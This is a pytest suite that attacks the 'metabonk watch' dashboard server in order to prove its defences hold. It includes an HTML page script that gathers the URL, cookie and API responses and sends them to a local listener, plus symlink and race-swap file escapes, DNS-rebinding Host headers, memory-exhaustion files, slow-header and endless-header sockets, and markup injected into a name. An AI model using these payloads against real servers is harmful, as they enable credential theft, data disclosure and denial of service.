"""`metabonk watch` against a hostile watched folder, page and peer (issue 36, section 2).

Each case is built for real: an HTML page in the watched folder opened in a real headless
chromium from the Replays list (it runs, but in an origin of its own: no token in its URL, no
cookie, no reading the dashboard's answers; what it can reach is sent to a listener here),
symlinks out of the folder on every route, a foreign `Host` (DNS rebinding), a publisher naming
files, sparse 3 GiB files on every route that reads one (the server's RSS measured), half-open
and idle sockets and endless headers before any token check, and bad `--token` values.
"""

from __future__ import annotations

import http.server
import json
import os
import resource
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from metabonk_gym.watch import LiveHub, WatchServer
from metabonk_gym.watch.server import COOKIE, MIN_TOKEN_CHARS, WatchError

sys.path.insert(0, str(Path(__file__).parent))
from browser import open_page  # noqa: E402

GIB = 1 << 30


def _get(url: str, headers: dict[str, str] | None = None) -> tuple[int, bytes, Any]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.status, response.read(), response.headers
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read(), exc.headers


class _Listener:
    """A loopback HTTP server that records every request's path (where a page would leak to)."""

    def __init__(self) -> None:
        seen: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(204)
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.seen = seen
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> _Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.server.shutdown()
        self.server.server_close()


#: What a page in the watched folder tries: its URL, the cookie, the dashboard's API; then it
#: sends all of it to the listener.
EVIL_PAGE = """<!DOCTYPE html><html><body><p id="done">evil</p><script>
(async () => {
  const out = {href: location.href, origin: String(self.origin)};
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "blocked: " + e.name; }
  try { const r = await fetch("/api/info", {credentials: "include"}); out.api = r.status + " " + await r.text(); }
  catch (e) { out.api = "blocked: " + e.name; }
  try { out.opener = String(window.opener && window.opener.location.href); }
  catch (e) { out.opener = "blocked: " + e.name; }
  fetch("http://127.0.0.1:LISTENER/leak?d=" + encodeURIComponent(JSON.stringify(out)), {mode: "no-cors"});
})();
</script></body></html>
"""


@pytest.mark.net
@pytest.mark.browser
def test_a_page_in_the_folder_runs_sandboxed_and_never_sees_the_token(tmp_path: Path) -> None:
    with _Listener() as listener:
        (tmp_path / "evil.html").write_text(EVIL_PAGE.replace("LISTENER", str(listener.port)))
        with WatchServer(tmp_path, host="0.0.0.0") as server, open_page() as page:
            token = server.token
            assert token
            page.goto(f"http://127.0.0.1:{server.port}/?token={token}")
            page.wait_for_selector("#replay-list a")
            with page.context.expect_page() as opened:
                page.click("text=evil.html")
            evil = opened.value
            evil.wait_for_selector("#done")  # it ran (the listener hears from it below)
            deadline = time.monotonic() + 30
            while not listener.seen and time.monotonic() < deadline:
                time.sleep(0.1)
    assert listener.seen, "the page's script did not run"
    leaked = json.loads(urllib.parse.unquote(listener.seen[0].split("?d=", 1)[1]))
    assert token not in json.dumps(leaked), leaked
    assert leaked["origin"] == "null"  # an opaque origin of its own
    assert "blocked" in leaked["cookie"] and "blocked" in leaked["api"], leaked
    assert "blocked" in leaked["opener"] or leaked["opener"] in ("null", "undefined"), leaked


@pytest.mark.net
def test_files_are_served_sandboxed_and_a_token_in_their_url_is_moved_to_the_cookie(
    tmp_path: Path,
) -> None:
    (tmp_path / "page.html").write_text("<script>alert(1)</script>")
    (tmp_path / "a.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    with WatchServer(tmp_path, host="0.0.0.0") as server:
        base = f"http://127.0.0.1:{server.port}"
        cookie = {"cookie": f"{COOKIE}={server.token}"}
        for name in ("page.html", "a.svg"):
            status, body, headers = _get(f"{base}/files/{name}", cookie)
            assert status == 200 and body
            assert headers["content-security-policy"] == "sandbox allow-scripts"
            assert headers["x-content-type-options"] == "nosniff"
        connection = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        with connection:
            connection.sendall(
                f"GET /files/page.html?token={server.token} HTTP/1.1\r\n"
                f"Host: 127.0.0.1\r\nConnection: close\r\n\r\n".encode()
            )
            answer = _read_all(connection)
        head = answer.split(b"\r\n\r\n", 1)[0].decode()
        assert head.startswith("HTTP/1.1 303") and "location: /files/page.html\r\n" in head
        assert f"{COOKIE}={server.token}" in head  # the cookie carries it from now on


def _read_all(connection: socket.socket) -> bytes:
    chunks: list[bytes] = []
    while True:
        chunk = connection.recv(65536)
        if not chunk:
            return b"".join(chunks)
        chunks.append(chunk)


@pytest.mark.net
def test_every_route_refuses_symlinks_out_of_the_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "run.json").write_text(json.dumps({"status": "SECRET-RUN"}))
    (outside / "plan.yaml").write_text("SECRET-PLAN: 1\n")
    (outside / "pbt_global.txt").write_text(json.dumps({"secret": "SECRET-PBT"}) + "\n")
    (outside / "decisions.jsonl").write_text(
        json.dumps({"type": "call", "run": "r", "id": 0, "user": "SECRET-LOG"}) + "\n"
    )
    root = tmp_path / "root"
    run = root / "run"
    run.mkdir(parents=True)
    for name in ("run.json", "plan.yaml", "pbt_global.txt", "decisions.jsonl"):
        (run / name).symlink_to(outside / name)
    (root / "linked").symlink_to(outside, target_is_directory=True)
    (root / "logs").mkdir()
    (root / "logs" / "decisions.jsonl").symlink_to(outside / "decisions.jsonl")
    (outside / "data").mkdir()
    (outside / "data" / "metadata.json").write_text("{}")
    (root / "ds").mkdir()
    (root / "ds" / "data").symlink_to(outside / "data", target_is_directory=True)
    (root / "mem.lbdb").mkdir()
    (root / "mem.lbdb" / "db").symlink_to(outside / "run.json")
    from torch.utils.tensorboard import SummaryWriter

    writer = SummaryWriter(str(outside / "tb"))
    writer.add_scalar("SECRET-CURVE", 1.0, 1)
    writer.close()
    (event,) = (outside / "tb").iterdir()
    (root / "tb").mkdir()
    (root / "tb" / event.name).symlink_to(event)
    with WatchServer(root) as server:
        base = f"http://127.0.0.1:{server.port}"
        status, body, _ = _get(base + "/api/train")
        assert status == 200 and b"SECRET" not in body, body[:300]
        assert json.loads(body)["runs"] == {}
        for path in ("run", "logs", "linked", "."):
            status, body, _ = _get(f"{base}/api/decisions?path={path}")
            assert status == 404 and b"SECRET" not in body, (path, status, body[:200])
        for path in ("run/run.json", "linked/plan.yaml"):
            assert _get(f"{base}/files/{path}")[0] == 404
        for route in ("dataset?path=ds", "memory?path=mem.lbdb", "memory/map?path=mem.lbdb"):
            assert _get(f"{base}/api/{route}")[0] == 404, route
        status, body, _ = _get(base + "/api/scan")
        assert status == 200 and b"SECRET" not in body


@pytest.mark.net
def test_a_decision_log_swapped_for_a_link_after_its_check_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`/api/decisions` checked the log's path, then `read_decisions` opened it again by name:
    a symlink swapped in between was followed out of the folder. The swap is made here right
    after the check (the race's window, every time): the file checked is the file read, or none."""
    from metabonk_gym.watch import replays

    outside = tmp_path / "outside"
    outside.mkdir()
    call = {"type": "call", "run": "r", "id": 0, "user": "SECRET-LOG"}
    (outside / "decisions.jsonl").write_text(json.dumps(call) + "\n")
    run = tmp_path / "root" / "run"
    run.mkdir(parents=True)
    (run / "decisions.jsonl").write_text(json.dumps({**call, "user": "mine"}) + "\n")
    checked = replays.inside_file

    def check_then_swap(root: Path, rel: str) -> Path | None:
        path = checked(root, rel)
        if path is not None and path.name == "decisions.jsonl":
            path.unlink()
            path.symlink_to(outside / "decisions.jsonl")
        return path

    with WatchServer(tmp_path / "root") as server:
        url = f"http://127.0.0.1:{server.port}/api/decisions?path=run"
        status, body, _ = _get(url)
        assert status == 200 and [r["user"] for r in json.loads(body)] == ["mine"], body[:200]
        monkeypatch.setattr(replays, "inside_file", check_then_swap)
        status, body, _ = _get(url)
        assert status == 404 and b"SECRET" not in body, (status, body[:200])
        assert (run / "decisions.jsonl").is_symlink()  # (the swap was made)


@pytest.mark.net
def test_a_foreign_host_name_is_refused(tmp_path: Path) -> None:
    """DNS rebinding: a page at evil.example whose name now points at 127.0.0.1 asks with its
    own name in `Host`: refused (421) before anything is read, on loopback (no token) too."""
    (tmp_path / "secret.txt").write_text("SECRET")
    with WatchServer(tmp_path) as server:
        base = f"http://127.0.0.1:{server.port}"
        for host in (f"127.0.0.1:{server.port}", f"localhost:{server.port}", "[::1]"):
            assert _get(base + "/files/secret.txt", {"host": host})[:2] == (200, b"SECRET")
        for host in (f"evil.example:{server.port}", "evil.example", "10.1.2.3", "localhost.evil"):
            status, body, _ = _get(base + "/files/secret.txt", {"host": host})
            assert status == 421 and b"SECRET" not in body, host
        from websockets.exceptions import InvalidStatus
        from websockets.sync.client import connect

        with pytest.raises(InvalidStatus) as refused:
            connect(
                f"ws://127.0.0.1:{server.port}/ws",
                open_timeout=10,
                origin=None,
                additional_headers={"Host": "evil.example"},
            )
        assert refused.value.response.status_code in (400, 403)  # (closed before the accept)
    with WatchServer(tmp_path, allowed_hosts=("box.lan",)) as server:
        base = f"http://127.0.0.1:{server.port}"
        assert _get(base + "/files/secret.txt", {"host": "box.lan:1"})[0] == 200


def _publish(url: str, key: str, meta: dict[str, Any]) -> Any:
    from websockets.sync.client import connect

    from metabonk_gym.vector.publish import pack_published

    ws = connect(f"{url}?token={key}", open_timeout=10, legacy=True)
    ws.send(json.dumps({"label": "peer"}))
    ws.send(json.dumps({"envs": 1}))
    ws.send(pack_published(0, 1, b"", json.dumps(meta).encode()))
    return ws


@pytest.mark.net
def test_a_public_bind_has_a_publish_key_apart_and_a_publisher_names_no_file(
    tmp_path: Path,
) -> None:
    """The page's token does not publish, the publish key does not open the page, and an
    overlay naming a folder of decision frames and a game folder makes the server read neither."""
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    canary = tmp_path / "elsewhere"
    canary.mkdir()
    (canary / "secret.png").write_bytes(b"\x89PNG SECRET")
    (canary / "decisions.jsonl").write_text(
        json.dumps({"type": "call", "run": "r", "id": 0, "user": "SECRET-LOG"}) + "\n"
    )
    hub = LiveHub(fps=10, sources=list)
    with WatchServer(None, hub, host="0.0.0.0", publish=True) as server:
        assert server.token and server.publish_key and server.token != server.publish_key
        url = f"ws://127.0.0.1:{server.port}/publish"
        with pytest.raises(InvalidStatus):  # the viewer's token publishes nothing (4403)
            _publish(url, server.token, {}).recv(timeout=5)
        with pytest.raises(InvalidStatus):  # the publish key opens no page
            connect(f"ws://127.0.0.1:{server.port}/ws?token={server.publish_key}", open_timeout=10)
        assert _get(f"http://127.0.0.1:{server.port}/api/live?token={server.publish_key}")[0] == 403
        meta = {
            "return": 1.5,
            "decisions": {"folder": str(canary), "run": "r"},
            "game_folder": str(canary),
        }
        ws = _publish(url, server.publish_key, meta)
        try:
            hub.connect()  # a viewer: the hub's sampler (started with the server) polls
            deadline = time.monotonic() + 20
            while not hub.snapshot()["envs"] and time.monotonic() < deadline:
                time.sleep(0.05)
            assert hub.snapshot()["envs"][0]["return"] == 1.5  # the overlay arrived
            base = f"http://127.0.0.1:{server.port}"
            q = f"?token={server.token}"
            status, body, _ = _get(f"{base}/api/live/calls/0{q}")
            assert status == 200 and json.loads(body) == [] and b"SECRET" not in body
            assert _get(f"{base}/api/live/calls/0/frame{q}&file=secret.png")[0] == 404
            assert hub.map_folder is None
        finally:
            hub.disconnect()
            ws.close()


def _kib(field: str) -> int:
    return int(Path("/proc/self/status").read_text().split(field + ":")[1].split()[0])


def _server_rss_growth(server: WatchServer, path: str) -> tuple[int, int]:
    """(status, growth of this process's peak RSS in bytes during one GET): the peak is reset
    first (`/proc/self/clear_refs`), so an earlier test's peak cannot hide this one's."""
    try:
        Path("/proc/self/clear_refs").write_text("5")  # VmHWM := VmRSS now
        before = _kib("VmRSS")
        status = _get(f"http://127.0.0.1:{server.port}{path}")[0]
        return status, (_kib("VmHWM") - before) * 1024
    except OSError:  # (no clear_refs: the lifetime peak, which can only under-report)
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        status = _get(f"http://127.0.0.1:{server.port}{path}")[0]
        return status, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - peak


@pytest.mark.net
def test_sparse_3gib_files_are_capped_not_read_whole(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    for name in ("run.json", "plan.yaml", "decisions.jsonl", "pbt_global.txt"):
        with open(run / name, "wb") as handle:
            handle.truncate(3 * GIB)  # sparse: no disk, 3 GiB to whoever reads it whole
    from tensorboard.compat.tensorflow_stub.pywrap_tensorflow import masked_crc32c

    length = struct.pack("<Q", 3 * GIB - 16)  # one record as long as the file: TensorBoard's
    with open(run / "events.out.tfevents.1.x", "wb") as handle:  # reader allocates it at once
        handle.write(length + struct.pack("<I", masked_crc32c(length)))
        handle.truncate(3 * GIB)
    with WatchServer(tmp_path) as server:
        status, growth = _server_rss_growth(server, "/api/train")
        assert status == 200 and growth < 200e6, growth
        train = json.loads(_get(f"http://127.0.0.1:{server.port}/api/train")[1])
        assert train["runs"] == {} and train["scalars"] == {}  # (nothing past a cap read)
        status, growth = _server_rss_growth(server, "/api/decisions?path=run")
        assert status == 413 and growth < 200e6, growth
        _, body, _ = _get(f"http://127.0.0.1:{server.port}/api/decisions?path=run")
        assert b"MB" in body and b"decisions.jsonl" in body
        (tmp_path / "ds" / "data").mkdir(
            parents=True
        )  # a dataset's metadata, minari reads it whole
        with open(tmp_path / "ds" / "data" / "metadata.json", "wb") as handle:
            handle.truncate(3 * GIB)
        status, growth = _server_rss_growth(server, "/api/dataset?path=ds")
        assert status == 413 and growth < 200e6, (status, growth)
        os.mkfifo(tmp_path / "ds" / "data" / "main_data.hdf5")  # a FIFO: no read blocks on it
        os.truncate(tmp_path / "ds" / "data" / "metadata.json", 10)
        assert _get(f"http://127.0.0.1:{server.port}/api/dataset?path=ds")[0] == 404
    # a plan a little past its cap is shown cut, a run.json past its cap is no state
    (run / "run.json").write_text(json.dumps({"status": "ok"}))
    (run / "plan.yaml").write_text("x: 1\n" * 10000)
    os.truncate(run / "pbt_global.txt", 0)
    (run / "decisions.jsonl").unlink()
    with WatchServer(tmp_path) as server:
        runs = json.loads(_get(f"http://127.0.0.1:{server.port}/api/train")[1])["runs"]
        assert runs["run"]["state"] == {"status": "ok"} and len(runs["run"]["plan"]) == 20000


@pytest.mark.net
def test_idle_and_half_open_sockets_do_not_turn_requests_away(tmp_path: Path) -> None:
    held: list[socket.socket] = []
    with WatchServer(tmp_path, header_timeout_s=2.0) as server:
        try:
            for i in range(260):
                connection = socket.create_connection(("127.0.0.1", server.port), timeout=10)
                held.append(connection)
                if i < 60:  # half-open: a request line and part of the headers
                    connection.sendall(b"GET /api/info HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ")
            started = time.monotonic()
            status, body, _ = _get(f"http://127.0.0.1:{server.port}/api/info")
            assert status == 200 and json.loads(body)["replays"] is True
            assert time.monotonic() - started < 15
            # the server closes them at the header deadline (recv sees the end)
            closed = 0
            for connection in held[:60] + held[-20:]:
                connection.settimeout(10)
                try:
                    closed += connection.recv(1) == b""
                except (ConnectionResetError, TimeoutError):
                    closed += 1
            assert closed == 80
        finally:
            for connection in held:
                connection.close()


@pytest.mark.net
def test_large_and_endless_headers_are_cut_off(tmp_path: Path) -> None:
    with WatchServer(tmp_path, host="0.0.0.0") as server:
        for size in (100_000, 20_000):
            connection = socket.create_connection(("127.0.0.1", server.port), timeout=10)
            with connection:
                try:
                    connection.sendall(
                        b"GET /api/info HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: "
                        + b"a" * size
                        + b"\r\n\r\n"
                    )
                except (BrokenPipeError, ConnectionResetError):
                    continue  # (closed while it sent: refused all the same)
                answer = _read_all(connection)
            assert answer.startswith(b"HTTP/1.1 431"), answer[:100]
        # an endless header: the server hangs up long before 64 MiB have gone
        connection = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        sent = 0
        with connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Endless: ")
            with pytest.raises(OSError):
                while sent < 64 << 20:
                    sent += connection.send(b"a" * 65536)
        assert sent < 64 << 20


def test_empty_short_and_odd_tokens_are_refused(tmp_path: Path) -> None:
    for host in ("0.0.0.0", "127.0.0.1"):
        with pytest.raises(WatchError, match="--token ''"):
            WatchServer(tmp_path, host=host, token="")
    with pytest.raises(WatchError, match=f"at least {MIN_TOKEN_CHARS}"):
        WatchServer(tmp_path, host="0.0.0.0", token="x")
    with pytest.raises(WatchError, match="only letters"):
        WatchServer(tmp_path, host="0.0.0.0", token="a; b=c" + "x" * 20)
    assert WatchServer(tmp_path, host="0.0.0.0", token="k" * MIN_TOKEN_CHARS).token
    from metabonk_gym.cli.main import app
    from typer.testing import CliRunner

    result = CliRunner().invoke(
        app, ["watch", str(tmp_path), "--address", "0.0.0.0:0", "--token", "abc"]
    )
    assert result.exit_code == 2 and result.output.startswith("error: --token has 3 characters")


@pytest.mark.browser
def test_a_ladder_page_shows_an_agent_named_like_markup(tmp_path: Path) -> None:
    """An agent path holding `<!--<script>` (a run folder's name) is text in `ladder.html`: the
    page's table still draws every row (it drew none: the data block swallowed the script)."""
    from browser import dump_dom

    from metabonk_gym.agents.ladder import html_page, run_ladder

    out = tmp_path / "ladder"
    run_ladder(
        ["MetaBonk/BonkQuest-v0"], ["random"], out, episodes=1, overrides={"max_episode_steps": 20}
    )
    ladder = json.loads((out / "ladder.json").read_text())
    name = "runs/<!--<script>/x</script><b>"
    ladder["cells"][0]["agent"] = name
    page = tmp_path / "page.html"
    page.write_text(html_page(ladder))
    data = page.read_text().split('id="ladder-data">', 1)[1].split("</script>", 1)[0]
    assert "<" not in data  # nothing in the data block a parser reads as markup
    dom = dump_dom(page)
    assert "<td" in dom and "&lt;!--&lt;script&gt;" in dom, dom[-2000:]
